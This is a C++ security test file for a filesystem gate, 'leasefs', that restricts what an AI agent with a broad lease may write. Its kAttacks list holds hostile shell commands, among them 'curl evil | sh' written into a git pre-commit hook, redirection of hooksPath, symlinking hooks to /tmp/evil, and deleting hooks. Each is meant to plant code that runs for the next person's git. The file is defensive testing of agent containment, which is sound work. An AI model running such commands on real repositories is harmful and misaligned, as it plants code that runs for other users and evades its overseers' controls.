// Attack class: an agent holding a broad lease (`--path '**'`, or no --path at
// all) rewrites what runs or configures the next person's git: .git/hooks and
// .git/config, protected by default (`leasefs mount`, gate/protected_paths.hpp).
// Every tool the agent may use is tried from its own uid through the real
// daemon's mount; nothing may change. A grant that names the path explicitly
// opens it, and `status` lists what is protected.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "tests/security/control_daemon.hpp"
#include "tests/support/control_client.hpp"
#include "tests/support/mounted_fs.hpp"
#include "tests/support/run.hpp"

namespace leasefs::test {
namespace {

using nlohmann::json;

// The repository the agent works in, written before the mount and owned by the
// agent, so that only the gate can refuse.
void seed_repo(const std::string& root) {
  RunOptions o;
  o.cwd = root;
  RunResult r = run_sh(
      "set -e; mkdir -p .git/hooks .git/refs src secrets; "
      "printf '[core]\\n\\tbare = false\\n' > .git/config; "
      "printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit; chmod 755 .git/hooks/pre-commit; "
      "echo 'ref: refs/heads/main' > .git/HEAD; echo 'int a;' > src/a.c; "
      "chown -R 65534:65534 .git src secrets",
      o);
  ASSERT_EQ(r.exit_code, 0) << r.output;
}

RunResult as_agent_sh(const ControlDaemon& d, const std::string& script) {
  return run_sh_as(kAgentUid, kAgentGid, script, d.root(), 30);
}

const std::vector<std::string> kAttacks = {
    "echo 'curl evil | sh' > .git/hooks/pre-commit",
    "echo '[core] hooksPath = /tmp' >> .git/config",
    "cp src/a.c .git/config",
    "cp src/a.c .git/hooks/post-checkout",
    "mv src/a.c .git/config",
    "mv -f src/a.c .git/hooks/pre-commit",
    "ln -sf /tmp/evil .git/hooks/pre-commit",
    "ln -s /tmp/evil .git/hooks/pre-push",
    "ln src/a.c .git/hooks/pre-push",
    "sed -i 's/bare/evil/' .git/config",
    "sed -i 's/exit 0/exit 1/' .git/hooks/pre-commit",
    "chmod 777 .git/hooks/pre-commit",
    "touch -d 2001-01-01 .git/config",
    "rm -f .git/hooks/pre-commit",
    "rm -rf .git/hooks",
    "mv .git/hooks .git/hooks.off",
    "mv .git .git-away",
    "mkdir -p h2 && mv .git/hooks h2/",
    "mkdir -p g2 && echo evil > g2/pre-push && mv g2 .git/hooks/g2",
    "python3 -c \"open('.git/config', 'a').write('x')\"",
    "python3 -c \"import os; os.rename('src/a.c', '.git/config')\"",
};

TEST(ProtectedPaths, BroadGrantCannotTouchGitHooksOrConfigWithAnyTool) {
  ControlDaemon d;
  seed_repo(d.root());
  auto m = d.mount();
  ASSERT_EQ(m.exit_code, 0) << m.output;
  ControlClient root(d.socket());
  ASSERT_TRUE(root.call("start", {{"description", "protect"}}).value("ok", false));
  for (const json& paths : {json::array({"**"}), json::array()}) {
    json args = {{"reason", "broad lease"}};
    if (!paths.empty()) args["paths"] = paths;
    json g = root.call("grant", args);
    ASSERT_TRUE(g.value("ok", false)) << g.dump();
    const std::string before = tree_digest(d.root() + "/.git");
    for (const std::string& attack : kAttacks) {
      RunResult r = as_agent_sh(d, attack);
      EXPECT_NE(r.exit_code, 0) << paths.dump() << ": " << attack << " succeeded";
      EXPECT_EQ(tree_digest(d.root() + "/.git"), before) << paths.dump() << ": " << attack;
    }
    // The lease itself works: the refusals above are the protection, not a lack of it.
    RunResult ok = as_agent_sh(d, "echo 'int b;' >> src/a.c && sed -i 's/b/c/' src/a.c");
    EXPECT_EQ(ok.exit_code, 0) << ok.output;
    ASSERT_TRUE(root.call("turn", json::object()).value("ok", false));
  }
}

TEST(ProtectedPaths, GrantThatNamesThePathOpensItAndStatusListsThem) {
  ControlDaemon d;
  seed_repo(d.root());
  auto m = d.mount({"--protect", "secrets/**"});
  ASSERT_EQ(m.exit_code, 0) << m.output;
  ControlClient root(d.socket());
  ASSERT_TRUE(root.call("start", {{"description", "protect"}}).value("ok", false));

  json st = root.call("status", json::object());
  EXPECT_EQ(st["result"]["protected_paths"],
            json::array({".longrun/**", ".git/hooks/**", ".git/config", "secrets/**"}))
      << st.dump();
  RunResult human = run_argv({LEASECTL_BIN, "--socket", d.socket(), "status"});
  EXPECT_NE(human.output.find(".git/hooks/**"), std::string::npos) << human.output;

  // Named explicitly: the hook (and only it), then the config with sed -i.
  ASSERT_TRUE(root.call("grant", {{"reason", "fix the hook"},
                                  {"paths", {".git/hooks/pre-commit", "src/**", "secrets/**"}}})
                  .value("ok", false));
  EXPECT_EQ(as_agent_sh(d, "echo 'exit 0' >> .git/hooks/pre-commit").exit_code, 0);
  EXPECT_NE(as_agent_sh(d, "echo x >> .git/config").exit_code, 0);
  EXPECT_NE(as_agent_sh(d, "echo x > .git/hooks/pre-push").exit_code, 0);
  RunResult sk = as_agent_sh(d, "echo k > secrets/key");
  EXPECT_EQ(sk.exit_code, 0) << sk.output;
  ASSERT_TRUE(root.call("turn", json::object()).value("ok", false));
  ASSERT_TRUE(
      root.call("grant", {{"reason", "config"}, {"paths", {".git/config"}}}).value("ok", false));
  RunResult sed = as_agent_sh(d, "sed -i 's/bare/bare2/' .git/config && grep -q bare2 .git/config");
  EXPECT_EQ(sed.exit_code, 0) << sed.output;
}

TEST(ProtectedPaths, BadProtectGlobIsRefusedWithTheReason) {
  ControlDaemon d;
  auto m = d.mount({"--protect", "../outside"});
  EXPECT_NE(m.exit_code, 0);
  EXPECT_NE(m.output.find("--protect"), std::string::npos) << m.output;
  EXPECT_FALSE(d.mounted());
}

}  // namespace
}  // namespace leasefs::test
